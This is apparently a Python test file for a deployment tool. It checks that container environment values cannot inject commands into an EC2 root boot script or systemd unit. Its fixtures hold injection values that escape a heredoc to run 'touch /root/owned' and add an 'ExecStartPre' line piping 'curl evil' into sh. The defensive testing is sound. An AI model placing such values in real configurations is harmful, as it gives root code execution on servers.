"""No spec value reaches the EC2 boot script (run as root by cloud-init) or its systemd unit as code.

Issue 28 found that a container env value holding a newline and a line ``UNIT`` ended the unit's heredoc, so the next
line ran as root; a newline and ``ExecStartPre=...`` added a directive. Now the values are refused at validate, and
the builder writes them into an EnvironmentFile carried as base64, so even a value that skipped validation cannot
change the script: every line but that payload stays as it is, and systemd's parser gives back exactly the values.
"""

from __future__ import annotations

import base64
import re
import subprocess
import sys

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from neurondeploy.errors import PlanError, SpecError
from neurondeploy.replay.systemctl_shim import read_environment_file, read_unit
from neurondeploy.resources.compute import ENV_FILE, user_data_script
from neurondeploy.resources.model import PlanContext
from neurondeploy.specs import parse_spec
from neurondeploy.specs.inference import SERVING_ENV

EC2_SPEC = """kind: inference
name: web
task: feature-extraction
model: {path: m}
deployment:
  platform: ec2
  instance_type: inf2.xlarge
  container:
    env:
      NOTE: %s
"""
CTX = PlanContext(toolkit_sha256="ab" * 32, toolkit_constraints_sha256="cd" * 32)
ARTIFACT = "s3://neurondeploy-123456789012-us-east-1/web/artifact/model-0123.tar.gz"
PAYLOAD = re.compile(r"^\(umask 077 && printf %s '([A-Za-z0-9+/=]*)' \| base64 --decode > (\S+)\)$", re.MULTILINE)
INJECTIONS = {
    "heredoc end": "x\nUNIT\ntouch /root/owned\ncat <<'UNIT'",
    "unit directive": "x\nExecStartPre=/bin/sh -c 'curl evil | sh'",
    "NUL": "x\x00y",
    "carriage return": "x\rExecStartPre=/bin/true",
}


def spec_with_note(value: str):
    """The EC2 spec, its NOTE value set after validation: what a builder sees if validate were skipped."""
    spec = parse_spec(EC2_SPEC % "plain", file="s.yaml").spec
    spec.deployment.container.env["NOTE"] = value
    return spec


def script_of(value: str) -> str:
    return user_data_script(spec_with_note(value), ARTIFACT, CTX)


def env_file_of(script: str) -> dict[str, str]:
    (encoded, path), *more = PAYLOAD.findall(script)
    assert not more and path == ENV_FILE
    return read_environment_file(base64.b64decode(encoded).decode())


def without_payload(script: str) -> str:
    return PAYLOAD.sub("PAYLOAD", script)


@pytest.mark.parametrize("value", INJECTIONS.values(), ids=INJECTIONS.keys())
def test_validate_refuses_a_control_character_in_an_env_value(value):
    yaml_value = '"' + value.encode("unicode_escape").decode().replace('"', '\\"') + '"'
    with pytest.raises(SpecError, match="control character") as refused:
        parse_spec(EC2_SPEC % yaml_value, file="s.yaml")
    line = refused.value.one_line()
    assert "\n" not in line and "NOTE" in line and "fix:" in line


@pytest.mark.parametrize("value", INJECTIONS.values(), ids=INJECTIONS.keys())
def test_the_builder_refuses_one_that_skipped_validation(value):
    with pytest.raises(PlanError, match="control character"):
        script_of(value)


def test_the_unit_reads_its_environment_from_the_file_and_holds_no_value():
    script = script_of("plain")
    unit_text = script.split("<<'UNIT'\n", 1)[1].split("\nUNIT\n", 1)[0]
    assert "Environment=" not in unit_text.replace("EnvironmentFile=", "")
    assert f"EnvironmentFile={ENV_FILE}" in unit_text
    env = env_file_of(script)
    assert env["NOTE"] == "plain" and SERVING_ENV in env


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(value=st.text(max_size=200))
def test_any_value_keeps_the_scripts_shape_and_arrives_exactly(value):
    """Whatever the value, the script is the baseline's line for line outside the base64 payload (same commands,
    same heredocs, same unit), and systemd's EnvironmentFile parser gives back exactly that value; a value with a
    control character is refused instead."""
    baseline = without_payload(script_of("plain"))
    try:
        script = script_of(value)
    except PlanError as refused:
        assert re.search(r"[\x00-\x1f\x7f-\x9f]", value) and "control character" in str(refused)
        return
    assert without_payload(script) == baseline
    assert env_file_of(script)["NOTE"] == value


def test_the_shim_reads_environment_files_as_systemd_does(tmp_path):
    """The replay's systemd stand-in follows systemd.exec(5)'s EnvironmentFile rules (the boot replay relies on it)."""
    text = (
        "# comment\n"
        "; also a comment\n"
        "  SPACED =  two words  \n"
        'QUOTED="a \\"b\\" \\$c \\\\d \\e"\n'
        "SINGLE='it \"stays\" \\n'\n"
        'JOINED="a" "b"c\n'
        "ESCAPED=a\\ b\\\n"
        "c\n"
        "no assignment\n"
        "EMPTY=\n"
    )
    assert read_environment_file(text) == {
        "SPACED": "two words",
        "QUOTED": 'a "b" $c \\d \\e',
        "SINGLE": 'it "stays" \\n',
        "JOINED": "abc",
        "ESCAPED": "a bc",
        "EMPTY": "",
    }
    unit = tmp_path / "x.service"
    unit.write_text("[Service]\nEnvironmentFile=/x.env\nExecStart=/bin/true\n")
    assert read_unit(unit)["EnvironmentFile"] == ["/x.env"]


def test_validate_through_the_cli_prints_one_line_and_exits_2(tmp_path):
    spec = tmp_path / "s.yaml"
    spec.write_text(EC2_SPEC % '"x\\nUNIT\\ntouch /root/owned"')
    done = subprocess.run(
        [sys.executable, "-m", "neurondeploy.cli", "validate", str(spec)], capture_output=True, text=True
    )
    assert done.returncode == 2, done.stderr
    lines = done.stderr.strip().splitlines()
    assert len(lines) == 1 and "NOTE" in lines[0] and "control character" in lines[0], lines
